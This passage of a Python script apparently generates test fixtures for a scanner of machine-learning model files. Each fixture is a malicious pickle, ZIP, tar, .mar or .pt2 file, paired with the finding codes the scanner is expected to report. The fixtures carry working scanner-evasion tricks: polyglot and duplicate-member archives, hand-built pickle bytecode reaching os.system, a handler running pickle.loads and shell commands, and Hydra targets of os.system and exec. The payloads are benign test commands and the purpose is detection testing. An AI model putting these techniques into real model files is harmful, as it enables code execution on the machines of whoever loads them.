    f['bad-offsets.safetensors'] = (safetensors_bytes(tensors, corrupt=lambda h: h['fc.bias'].update(data_offsets=[16, 4096])), ['AIS605'])
    f['bad-overlap.safetensors'] = (safetensors_bytes(tensors, corrupt=lambda h: h['fc.bias'].update(data_offsets=[8, 16])), ['AIS605'])
    broken = safetensors_bytes(tensors)
    f['bad-header-json.safetensors'] = (broken[:8] + b'{"fc.weight": [' + broken[23:], ['AIS605'])
    f['bad-pickle-disguised.safetensors'] = (torch_zip(*state_dict(extra=Payload(os.system, 'id'))), ['AIS601'])
    # The ZIP tricks of the guide's §1 (picklescan CVEs 2025-1889, -1944, -1945, -10155, -10156 and the loaders' own rules).
    benign_sd, benign_storages = state_dict()
    evil_sd, evil_storages = state_dict(extra=Payload(os.system, 'id'))
    # TorchServe archives.
    manifest = {'createdOn': '01/01/2024 00:00:00', 'runtime': 'python', 'archiverVersion': '0.9.0',
                'model': {'modelName': 'classifier', 'serializedFile': 'model.pt', 'handler': 'handler.py', 'modelFile': 'model.py', 'modelVersion': '1.0'}}
    handler = b'from ts.torch_handler.base_handler import BaseHandler\n\nclass Handler(BaseHandler):\n    pass\n'
    f['bad-handler.mar'] = (zip_bytes([('MAR-INF/MANIFEST.json', json.dumps(manifest).encode()), ('handler.py', handler), ('model.py', b'import torch\n'),
                                       ('model.pt', torch_zip(benign_sd, benign_storages, prefix='model'))]), ['AIS603', 'AIS617'])
    escaping = dict(manifest, model=dict(manifest['model'], serializedFile='../../weights/model.pt'))
    f['bad-payload.mar'] = (zip_bytes([('MAR-INF/MANIFEST.json', json.dumps(escaping).encode()), ('handler.py', handler),
                                       ('model.pt', torch_zip(evil_sd, evil_storages, prefix='model'))]), ['AIS601', 'AIS617'])

    # A handler whose own code is unsafe: the Python code rules read it as the Python file it is (AIS101 and AIS203
    # on its lines, named `model.mar!/handler.py:10`; test/model-files/archive-code.test.ts), besides the archive's
    # own AIS617. The sidecar lists this family's findings only, as for every fixture.
    unsafe_handler = (b'import pickle\nimport subprocess\n\nfrom ts.torch_handler.base_handler import BaseHandler\n\n\n'
                      b'class Handler(BaseHandler):\n    def preprocess(self, data):\n        body = data[0].get("body")\n'
                      b'        return pickle.loads(body)\n\n    def postprocess(self, output):\n'
                      b'        subprocess.run(output["command"], shell=True)\n        return [output]\n')
    f['bad-handler-code.mar'] = (zip_bytes([('MAR-INF/MANIFEST.json', json.dumps(manifest).encode()), ('handler.py', unsafe_handler),
                                            ('model.pt', torch_zip(benign_sd, benign_storages, prefix='model'))]), ['AIS603', 'AIS617'])

    # torch.export archives (.pt2), assembled from the documented layout (torch 1.13 cannot write them).
    linear = [pt2_node('torch.ops.aten.linear.default', [('input', 'x'), ('weight', 'fc.weight')], 'linear'),
              pt2_node('torch.ops.aten.relu.default', [('self', 'linear')], 'relu'), pt2_node('_operator.getitem', [('self', 'relu')], 'out')]
    f['bad-info-export.pt2'] = (pt2_archive(linear), ['AIS603'])
    custom = linear[:1] + [pt2_node('torch.ops.mylib.rms_norm.default', [('input', 'linear')], 'out')]
    f['bad-export-custom-op.pt2'] = (pt2_archive(custom, opsets={'aten': 10, 'mylib': 1}), ['AIS603', 'AIS619'])
    branch = [pt2_node('torch.hub.load', [('repo', 'x')], 'loaded')]
    cond = linear[:1] + [pt2_node('torch.ops.higher_order.cond', [('pred', 'linear')], 'out', subgraphs=[('true_graph_0', branch), ('false_graph_0', linear[1:2])])]
    f['bad-export-python-target.pt2'] = (pt2_archive(cond), ['AIS603', 'AIS619'])
    aoti = [('archive/data/aotinductor/model-cpu/model.so', b'\x7fELF\x02\x01\x01' + bytes(57)),
            ('archive/data/aotinductor/model-cpu/model.cpp', b'#include <torch/csrc/inductor/aoti_runtime/interface.h>\n')]
    f['bad-export-aoti.pt2'] = (pt2_archive(linear, extra_members=aoti), ['AIS603', 'AIS619'])
    f['bad-export-sample-payload.pt2'] = (pt2_archive(linear, sample_inputs=state_dict(extra=Payload(os.system, 'id'))), ['AIS601'])

    # A decoy member with the encryption bit set in its directory record (torch never reads it; zipfile raises on it).
    decoy = zip_bytes([('archive/data.pkl', torch_pickle(evil_sd)), ('archive/notes.bin', b'decoy'), ('archive/byteorder', b'little'),
                       ('archive/version', b'3\n')] + [(f'archive/data/{x.key}', x.data) for x in evil_storages])
    f['bad-decoy-flag.pt'] = (set_member_flag(decoy, 'archive/notes.bin', 0x1), ['AIS601', 'AIS604'])
    # Duplicate data.pkl: both loaders take the last, a first-match scanner takes the first.
    f['bad-duplicate-data-pkl.pt'] = (zip_bytes([('archive/data.pkl', torch_pickle(benign_sd)), ('archive/data.pkl', torch_pickle(evil_sd)),
                                                 ('archive/version', b'3\n')] + [(f'archive/data/{x.key}', x.data) for x in evil_storages]), ['AIS601'])
    f['bad-crc.pt'] = (break_member_crc(torch_zip(evil_sd, evil_storages), 'archive/data.pkl'), ['AIS601'])
    # A pickle in a member with a harmless name, once with PROTO 2 and once as a protocol-0 pickle without any magic bytes.
    f['bad-wrong-ext.zip'] = (zip_bytes([('data.txt', pickle.dumps(Payload(eval, '1+1'), protocol=2))]), ['AIS601'])
    f['bad-protocol0-member.zip'] = (zip_bytes([('readme.txt', b'weights'), ('model/config.txt', pickle.dumps(Payload(os.system, 'id'), protocol=0))]), ['AIS601'])
    # A plain pickle named like a checkpoint (CVE-2025-10155) and a legacy file whose magic-number pickle carries the payload.
    f['bad-plain-pickle.bin'] = (pickle.dumps(Payload(os.system, 'id'), protocol=2), ['AIS601'])
    f['bad-magic-bypass.pt'] = (pickle.dumps(Payload(os.system, 'id'), protocol=2) + legacy_torch(benign_sd, benign_storages)[10:], ['AIS601'])
    # A malicious pickle followed by a benign torch ZIP: pickle.load and torch.load run the pickle, zipfile sees the ZIP.
    f['bad-polyglot-pickle-zip.pkl'] = (pickle.dumps(Payload(os.system, 'id'), protocol=2) + torch_zip(benign_sd, benign_storages), ['AIS601', 'AIS610'])
    # Deflated members: torch loads them, so they must be inflated and scanned.
    f['bad-deflated.pt'] = (zip_bytes([('archive/data.pkl', torch_pickle(evil_sd)), ('archive/version', b'3\n')], zipfile.ZIP_DEFLATED), ['AIS601'])
    # A protocol-4 dotted name walking from an innocent module to os.system (guide §2.2).
    f['bad-dotted-walk.pkl'] = (b'\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00\x8c\x07pathlib\x8c\tos.system\x93\x8c\x02id\x85R.', ['AIS601'])
    # BUILD with a (None, {name: value}) state on an imported class is setattr on it (here Namespace.__init__ becomes Counter) (picklescan's
    # sys_module_override trick rebinds torch._utils this way): every global is allowed, the write is not.
    f['bad-build-on-global.pkl'] = (b'\x80\x02cargparse\nNamespace\nN}X\x08\x00\x00\x00__init__ccollections\nCounter\ns\x86b.', ['AIS601'])
    # Generic archives (issue 15 item 2): a gzipped tar, a NeMo tar whose duplicate weights member wins on
    # restore, and a 7z archive that cannot be opened (its 6-byte signature, version 0.4, then bytes).
    f['bad-archive.tgz'] = (gzip.compress(tar_bytes([('model/README.md', b'weights'), ('model/weights.pkl', pickle.dumps(Payload(os.system, 'id'), protocol=4))]), mtime=0), ['AIS601'])
    f['bad-duplicate-weights.nemo'] = (tar_bytes([('model_config.yaml', b'target: nemo.collections.asr.models.EncDecCTCModel\n'),
                                                  ('model_weights.ckpt', torch_zip(benign_sd, benign_storages)),
                                                  ('model_weights.ckpt', torch_zip(evil_sd, evil_storages))]), ['AIS601'])
    # Hydra _target_ in safetensors metadata (guide §3.2, NeMo CVE-2025-23304): denied, unknown and allowed targets.
    f['bad-target-os-system.safetensors'] = (safetensors_bytes(tensors, {'format': 'pt', 'config': json.dumps({'_target_': 'os.system', 'command': 'id'})}), ['AIS612'])
    f['bad-target-unknown.safetensors'] = (safetensors_bytes(tensors, {'format': 'pt', 'config': '_target_: mylab.models.build\nsize: 4\n'}), ['AIS612'])
    f['good-target-nemo.safetensors'] = (safetensors_bytes(tensors, {'format': 'pt', 'config': json.dumps({'_target_': 'nemo.collections.asr.models.EncDecCTCModel'})}), [])
    f['bad-target-config.nemo'] = (tar_bytes([('model_config.yaml', b'encoder:\n  _target_: builtins.exec\n  source: print(1)\n'),
                                              ('model_weights.ckpt', torch_zip(benign_sd, benign_storages))]), ['AIS603', 'AIS612'])
    f['bad-unopened.7z'] = (b'7z\xbc\xaf\x27\x1c\x00\x04' + bytes(range(64)), ['AIS604'])
    return f


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument('--out', default=DEFAULT_OUT)
    args = parser.parse_args()
    os.makedirs(args.out, exist_ok=True)
    for name, (data, expected) in sorted(fixtures().items()):
        os.makedirs(os.path.dirname(os.path.join(args.out, name)), exist_ok=True)
        with open(os.path.join(args.out, name), 'wb') as fh:
            fh.write(data)
        expect_path = os.path.join(args.out, name + '.expect')
        if expected:
            with open(expect_path, 'w') as fh:
                fh.write(''.join(f'1: {rule}\n' for rule in expected))
        elif os.path.exists(expect_path):
            os.remove(expect_path)
    print(f'wrote {len(fixtures())} fixtures to {os.path.relpath(args.out)}')


if __name__ == '__main__':
    main()
